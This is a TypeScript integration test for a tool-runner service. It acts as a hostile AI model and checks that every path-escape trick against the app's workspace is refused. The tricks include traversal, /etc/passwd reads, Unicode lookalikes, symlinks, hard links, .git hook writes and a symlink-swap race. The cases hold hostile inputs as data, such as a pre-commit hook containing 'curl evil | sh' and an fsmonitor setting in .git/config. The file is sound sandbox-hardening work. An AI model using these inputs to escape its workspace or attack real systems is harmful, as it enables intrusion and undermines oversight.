import { ErrorCode, Rpc } from '@overskill/contracts';
import { connectNats, NatsRpcClient } from '@overskill/messaging';
import { createServiceMetrics } from '@overskill/observability';
import { launchPlatform, type RunningPlatform, stackNatsCredentials } from '@overskill/testing';
import { spawn, spawnSync } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { existsSync, linkSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join, relative } from 'node:path';
import type { NatsConnection } from 'nats';
import { integrationStack, REPO_ROOT, scratchDir } from '../support/integration-env';

// A hostile model against the real tool-runner (built, over NATS): every path trick must be
// refused with TOOL_PATH_OUTSIDE_WORKSPACE or a more precise code, and nothing outside the
// app's workspace — a sibling app, the rest of the disk, the repository's .git — may change.

type Expected = ErrorCode | ErrorCode[];
type Case = [label: string, tool: string, input: Record<string, unknown>, expected: Expected];

// Everything under a folder: path → type and content hash (links by target).
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (path: string) => {
    for (const name of readdirSync(path)) {
      const full = join(path, name);
      const info = lstatSync(full);
      const key = relative(dir, full);
      if (info.isSymbolicLink()) out[key] = `link:${readlinkSync(full)}`;
      else if (info.isDirectory()) {
        out[key] = 'dir';
        walk(full);
      } else if (info.isFile()) out[key] = `file:${createHash('sha256').update(readFileSync(full)).digest('hex')}:${info.nlink}`;
      else out[key] = 'special';
    }
  };
  walk(dir);
  return out;
}

describe('tool-runner path safety (corpus)', () => {
  const stack = integrationStack();
  const appId = randomUUID();
  let dir: string;
  let workspaces: string;
  let root: string;
  let outside: string;
  let sibling: string;
  let platform: RunningPlatform;
  let nc: NatsConnection;
  let client: NatsRpcClient;
  let socket: Server;
  let deviceKind: 'character device' | 'socket (no privilege to create a device here)';

  const call = async (name: string, input: Record<string, unknown>) =>
    client.send(Rpc.toolCallExecute, { teamId: 'team-sec', appId, runId: 'run-sec', toolUseId: randomUUID(), name, inputJson: JSON.stringify(input) });

  beforeAll(async () => {
    dir = scratchDir(stack.dataDir, 'tool-paths');
    workspaces = join(dir, 'workspaces');
    root = join(workspaces, appId);
    outside = join(dir, 'outside');
    sibling = `${root}-evil`;
    for (const d of [root, outside, sibling, join(outside, 'sub')]) mkdirSync(d, { recursive: true });
    writeFileSync(join(outside, 'secret.txt'), 'OUTSIDE SECRET\n');
    writeFileSync(join(sibling, 'secret.txt'), 'SIBLING SECRET\n');

    // The app: ordinary files, its .git, and every kind of trap.
    writeFileSync(join(root, 'ok.txt'), 'fine\n');
    mkdirSync(join(root, 'folder'));
    mkdirSync(join(root, '.git/hooks'), { recursive: true });
    writeFileSync(join(root, '.git/config'), '[core]\n');
    writeFileSync(join(root, '.git/HEAD'), 'ref: refs/heads/main\n');
    mkdirSync(join(root, 'sub/.git/hooks'), { recursive: true });
    symlinkSync(outside, join(root, 'escape'));
    symlinkSync(join(outside, 'secret.txt'), join(root, 'escape-file.txt'));
    symlinkSync(`../${appId}-evil`, join(root, 'sibling'));
    symlinkSync('/', join(root, 'abs-root'));
    symlinkSync('/etc', join(root, 'etc'));
    symlinkSync(join(outside, 'missing.txt'), join(root, 'dangling-out'));
    symlinkSync(join(outside, 'missing-dir'), join(root, 'dangling-dir'));
    symlinkSync('loop-b', join(root, 'loop-a'));
    symlinkSync('loop-a', join(root, 'loop-b'));
    symlinkSync('.git', join(root, 'dir-to-git'));
    linkSync(join(outside, 'secret.txt'), join(root, 'hard.txt'));
    expect(spawnSync('mkfifo', [join(root, 'pipe')]).status).toBe(0);
    socket = createServer();
    await new Promise<void>((resolve) => socket.listen(join(root, 'sock'), resolve));
    // Device files need CAP_MKNOD; without it a socket stands in (the same refusal: not a regular file).
    if (spawnSync('mknod', [join(root, 'null-device'), 'c', '1', '3']).status === 0) deviceKind = 'character device';
    else {
      deviceKind = 'socket (no privilege to create a device here)';
      const stand = createServer();
      await new Promise<void>((resolve) => stand.listen(join(root, 'null-device'), resolve));
      stand.close();
    }

    platform = await launchPlatform({
      root: REPO_ROOT,
      ...stack,
      workspacesDir: workspaces,
      backupDir: join(dir, 'backups'),
      logDir: join(dir, 'logs'),
      services: ['tool-runner'],
      env: { LOG_LEVEL: 'warn', TOOL_NPM_LOOKUP: 'false' },
    });
    nc = await connectNats(stack.natsUrl, 'tool-paths-test', stackNatsCredentials(stack));
    client = new NatsRpcClient(nc, createServiceMetrics('tool-paths-test'), 15_000);
  }, 120_000);

  afterAll(async () => {
    await nc?.close();
    await platform?.stop();
    socket?.close();
  });

  const O = ErrorCode.TOOL_PATH_OUTSIDE_WORKSPACE;
  const CASES: Case[] = [
    // `..` and absolute paths, sibling prefixes
    ['parent of the app into a sibling with the same prefix', 'read_file', { path: '../APP-evil/secret.txt' }, O],
    ['write into the sibling', 'write_file', { path: '../APP-evil/pwned.txt', content: 'x' }, O],
    ['two levels up', 'read_file', { path: '../../outside/secret.txt' }, O],
    ['up through a folder', 'write_file', { path: 'a/../../pwned.txt', content: 'x' }, O],
    ['dot-slash then up', 'write_file', { path: './../pwned.txt', content: 'x' }, O],
    ['ends above the root', 'read_file', { path: 'x/./../..' }, O],
    ['absolute /etc/passwd', 'read_file', { path: '/etc/passwd' }, O],
    ['absolute /tmp', 'write_file', { path: '/tmp/pwned', content: 'x' }, O],
    ['absolute path of the sibling app', 'read_file', { path: 'ABS-evil/secret.txt' }, O],
    ['backslash traversal', 'read_file', { path: '..\\..\\outside\\secret.txt' }, O],
    ['Windows drive', 'read_file', { path: 'C:\\Windows\\win.ini' }, O],
    ['UNC path', 'read_file', { path: '\\\\server\\share\\x' }, O],
    ['NUL byte', 'read_file', { path: 'ok.txt\u0000.png' }, O],
    ['the root itself as a file', 'write_file', { path: '.', content: 'x' }, O],
    ['rename out of the app', 'rename_file', { from: 'ok.txt', to: '../pwned.txt' }, O],
    ['search above the app', 'search_files', { pattern: 'SECRET', path: '..' }, O],
    // Unicode tricks
    ['fullwidth dots', 'read_file', { path: '\uff0e\uff0e/outside/secret.txt' }, ErrorCode.TOOL_PATH_INVALID],
    ['fullwidth dots, write', 'write_file', { path: '\uff0e\uff0e/pwned.txt', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['one-dot leaders', 'read_file', { path: '\u2024\u2024/secret.txt' }, ErrorCode.TOOL_PATH_INVALID],
    ['small full stops', 'read_file', { path: '\ufe52\ufe52/secret.txt' }, ErrorCode.TOOL_PATH_INVALID],
    ['fullwidth solidus', 'write_file', { path: '..\uff0fpwned.txt', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['RTL override', 'write_file', { path: 'invoice\u202egnp.js', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['bidi isolates', 'write_file', { path: '\u2066x\u2069.txt', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['zero-width space', 'write_file', { path: 'a\u200b/index.html', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['byte-order mark', 'write_file', { path: '\ufeffindex.html', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['control character', 'write_file', { path: 'a\u0008.txt', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['NFD lookalike of an NFC name', 'write_file', { path: 'cafe\u0301.txt', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    ['name over 255 bytes', 'write_file', { path: `${'é'.repeat(128)}.txt`, content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
    // Symlinks that already exist
    ['read through a symlinked folder', 'read_file', { path: 'escape/secret.txt' }, O],
    ['write through a symlinked folder', 'write_file', { path: 'escape/pwned.txt', content: 'x' }, O],
    ['create folders through a symlinked folder', 'write_file', { path: 'escape/new/deep.txt', content: 'x' }, O],
    ['read a symlinked file', 'read_file', { path: 'escape-file.txt' }, O],
    ['overwrite a symlinked file', 'write_file', { path: 'escape-file.txt', content: 'x' }, O],
    ['edit a symlinked file', 'update_file', { path: 'escape-file.txt', search: 'SECRET', replace: 'x' }, O],
    [
      'replace lines of a symlinked file',
      'line_replace',
      { path: 'escape-file.txt', first_line: 1, last_line: 1, old_lines: 'OUTSIDE SECRET', new_lines: 'x' },
      O,
    ],
    ['delete through a symlinked folder', 'delete_file', { path: 'escape/secret.txt' }, O],
    ['delete a symlinked file', 'delete_file', { path: 'escape-file.txt' }, O],
    ['rename a file in from outside', 'rename_file', { from: 'escape/secret.txt', to: 'stolen.txt' }, O],
    ['rename a file out', 'rename_file', { from: 'ok.txt', to: 'escape/ok.txt' }, O],
    ['rename the symlink itself', 'rename_file', { from: 'escape-file.txt', to: 'plain.txt' }, O],
    ['read via a relative symlink to the sibling', 'read_file', { path: 'sibling/secret.txt' }, O],
    ['write via a relative symlink to the sibling', 'write_file', { path: 'sibling/pwned.txt', content: 'x' }, O],
    ['read via a symlink to /', 'read_file', { path: 'abs-root/etc/passwd' }, O],
    ['read via a symlink to /etc', 'read_file', { path: 'etc/passwd' }, O],
    ['write a dangling symlink that points out', 'write_file', { path: 'dangling-out', content: 'x' }, O],
    ['create inside a dangling folder link that points out', 'write_file', { path: 'dangling-dir/pwned.txt', content: 'x' }, O],
    ['a symlink loop as a folder', 'read_file', { path: 'loop-a/x' }, O],
    ['a symlink loop as the file', 'read_file', { path: 'loop-a' }, ErrorCode.TOOL_PATH_SYMLINK],
    ['search a symlinked folder', 'search_files', { pattern: 'SECRET', path: 'escape' }, O],
    ['download into a symlinked folder', 'download_to_repo', { url: 'https://example.com/x.png', path: 'escape/x.png' }, O],
    // Hard links
    ['read a hard link to a file outside', 'read_file', { path: 'hard.txt' }, ErrorCode.TOOL_PATH_HARD_LINK],
    ['overwrite a hard link', 'write_file', { path: 'hard.txt', content: 'x' }, ErrorCode.TOOL_PATH_HARD_LINK],
    ['edit a hard link', 'update_file', { path: 'hard.txt', search: 'SECRET', replace: 'x' }, ErrorCode.TOOL_PATH_HARD_LINK],
    [
      'replace lines of a hard link',
      'line_replace',
      { path: 'hard.txt', first_line: 1, last_line: 1, old_lines: 'OUTSIDE SECRET', new_lines: 'x' },
      ErrorCode.TOOL_PATH_HARD_LINK,
    ],
    // .git internals
    ['write a git hook', 'write_file', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['write .git/config', 'write_file', { path: '.git/config', content: '[core]\nfsmonitor = evil\n' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['read .git/config', 'read_file', { path: '.git/config' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['uppercase .GIT', 'write_file', { path: '.GIT/config', content: 'x' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['.git with a trailing dot', 'write_file', { path: '.git./hooks/pre-commit', content: 'x' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['a nested repository', 'write_file', { path: 'sub/.git/hooks/post-checkout', content: 'x' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['a symlink into .git', 'write_file', { path: 'dir-to-git/hooks/pre-commit', content: 'x' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['delete HEAD', 'delete_file', { path: '.git/HEAD' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['rename HEAD away', 'rename_file', { from: '.git/HEAD', to: 'HEAD.txt' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['rename a file into hooks', 'rename_file', { from: 'ok.txt', to: '.git/hooks/pre-commit' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['edit .git/config', 'update_file', { path: '.git/config', search: '[core]', replace: '[x]' }, ErrorCode.TOOL_PATH_PROTECTED],
    ['search .git', 'search_files', { pattern: 'core', path: '.git' }, ErrorCode.TOOL_PATH_PROTECTED],
    // Devices, FIFOs, sockets, folders
    ['read a FIFO (must not hang)', 'read_file', { path: 'pipe' }, ErrorCode.TOOL_PATH_NOT_REGULAR_FILE],
    ['write a FIFO', 'write_file', { path: 'pipe', content: 'x' }, ErrorCode.TOOL_PATH_NOT_REGULAR_FILE],
    ['read a device file', 'read_file', { path: 'null-device' }, ErrorCode.TOOL_PATH_NOT_REGULAR_FILE],
    ['write a device file', 'write_file', { path: 'null-device', content: 'x' }, ErrorCode.TOOL_PATH_NOT_REGULAR_FILE],
    ['read a socket', 'read_file', { path: 'sock' }, ErrorCode.TOOL_PATH_NOT_REGULAR_FILE],
    ['read a folder', 'read_file', { path: 'folder' }, ErrorCode.TOOL_PATH_NOT_REGULAR_FILE],
    ['delete a folder', 'delete_file', { path: 'folder' }, ErrorCode.TOOL_PATH_NOT_REGULAR_FILE],
    ['a file used as a folder', 'write_file', { path: 'ok.txt/child.txt', content: 'x' }, ErrorCode.TOOL_PATH_INVALID],
  ];

  it(`refuses all ${CASES.length} cases with the right code, and nothing outside the app changes`, async () => {
    expect(CASES.length).toBeGreaterThanOrEqual(50);
    const before = { outside: snapshot(outside), sibling: snapshot(sibling), git: snapshot(join(root, '.git')), workspaces: readdirSync(workspaces).sort() };
    const failures: string[] = [];
    for (const [label, tool, rawInput, expected] of CASES) {
      const input = JSON.parse(
        JSON.stringify(rawInput)
          .replace(/ABS-evil/g, `${root}-evil`)
          .replace(/APP-evil/g, `${appId}-evil`),
      ) as Record<string, unknown>;
      const reply = await call(tool, input);
      const codes = Array.isArray(expected) ? expected : [expected];
      if (!reply.isError || !codes.includes(reply.errorCode as ErrorCode))
        failures.push(`${label}: ${tool} ${JSON.stringify(input)} → ${reply.isError ? reply.errorCode : 'ok'}: ${reply.output.slice(0, 160)}`);
      if (reply.output.includes('SECRET')) failures.push(`${label}: leaked content: ${reply.output.slice(0, 160)}`);
    }
    expect(failures).toEqual([]);
    expect({ outside: snapshot(outside), sibling: snapshot(sibling), git: snapshot(join(root, '.git')), workspaces: readdirSync(workspaces).sort() }).toEqual(
      before,
    );
    expect(readFileSync(join(outside, 'secret.txt'), 'utf8')).toBe('OUTSIDE SECRET\n');
    expect(deviceKind).toBeDefined();
  });

  it('treats percent-encoding as literal names: never decoded, never outside', async () => {
    expect(await call('read_file', { path: '%2e%2e/%2e%2e/outside/secret.txt' })).toMatchObject({ isError: true, errorCode: ErrorCode.TOOL_FILE_NOT_FOUND });
    expect(await call('read_file', { path: '..%2f..%2foutside%2fsecret.txt' })).toMatchObject({ isError: true, errorCode: ErrorCode.TOOL_FILE_NOT_FOUND });
    expect(await call('write_file', { path: '%2e%2e/pwned.txt', content: 'literal' })).toMatchObject({ isError: false });
    expect(readFileSync(join(root, '%2e%2e/pwned.txt'), 'utf8')).toBe('literal');
    expect(existsSync(join(workspaces, 'pwned.txt'))).toBe(false);
  });

  it('never shows outside content through search, whatever the links', async () => {
    const reply = await call('search_files', { pattern: 'SECRET' });
    expect(reply).toMatchObject({ isError: false, output: 'No matches for "SECRET".' });
  });

  it('keeps reads and writes inside while a folder is swapped for a symlink pointing out, again and again', async () => {
    const swap = join(root, 'swap');
    const parked = join(root, 'swap-real');
    mkdirSync(swap);
    writeFileSync(join(swap, 'inner.txt'), 'inside\n');
    writeFileSync(join(outside, 'inner.txt'), 'OUTSIDE SECRET\n');
    const before = snapshot(outside);
    // Another process flips swap/ between the real folder and a link to `outside` as fast as it can.
    // A write landing between its rename and its link creates swap/ anew (write_file makes parent
    // folders): that folder is removed, so the real one comes back and the swapping goes on.
    const swapper = spawn(process.execPath, [
      '-e',
      `const fs = require('fs'); const [swap, parked, outside] = process.argv.slice(1);
       process.stdout.write('swapping\\n');
       const end = Date.now() + 55000;
       while (Date.now() < end) {
         try { fs.renameSync(swap, parked); fs.symlinkSync(outside, swap); } catch {}
         try {
           if (fs.existsSync(parked)) {
             if (fs.lstatSync(swap).isSymbolicLink()) fs.unlinkSync(swap); else fs.rmSync(swap, { recursive: true, force: true });
             fs.renameSync(parked, swap);
           }
         } catch {}
       }`,
      swap,
      parked,
      outside,
    ]);
    // Node starts slowly on a loaded machine: the calls begin once the swapping has.
    await new Promise((resolve) => swapper.stdout.once('data', resolve));
    const outcomes = new Map<string, number>();
    const refusedSoFar = () => [...outcomes].filter(([k]) => k !== 'ok').reduce((n, [, count]) => n + count, 0);
    try {
      // At least 250 rounds, and on until the race has shown itself (a loaded machine may give the
      // swapper little time in the first ones), within the test's own deadline.
      const until = Date.now() + 40_000;
      for (let i = 0; i < 250 || (refusedSoFar() === 0 && Date.now() < until); i++) {
        const write = await call('write_file', { path: `swap/file-${i}.txt`, content: `write ${i}\n` });
        const read = await call('read_file', { path: 'swap/inner.txt' });
        for (const reply of [write, read]) {
          const key = reply.isError ? reply.errorCode : 'ok';
          outcomes.set(key, (outcomes.get(key) ?? 0) + 1);
          expect(reply.output).not.toContain('SECRET');
        }
      }
    } finally {
      swapper.kill('SIGKILL');
      await new Promise((resolve) => swapper.once('exit', resolve));
    }
    // Whatever the interleaving, every answer is a success inside or a refusal.
    const allowed = new Set([
      'ok',
      ErrorCode.TOOL_PATH_OUTSIDE_WORKSPACE,
      ErrorCode.TOOL_FILE_NOT_FOUND,
      ErrorCode.TOOL_PATH_SYMLINK,
      ErrorCode.TOOL_PATH_INVALID,
    ]);
    expect([...outcomes.keys()].filter((k) => !allowed.has(k))).toEqual([]);
    // The race really happened: some calls were refused (which code depends on where the swap
    // landed: outside, a link, a changed path, a missing file) and some succeeded inside.
    expect(refusedSoFar()).toBeGreaterThan(0);
    expect(outcomes.get('ok') ?? 0).toBeGreaterThan(0);
    expect(snapshot(outside)).toEqual(before);
  }, 60_000);
});
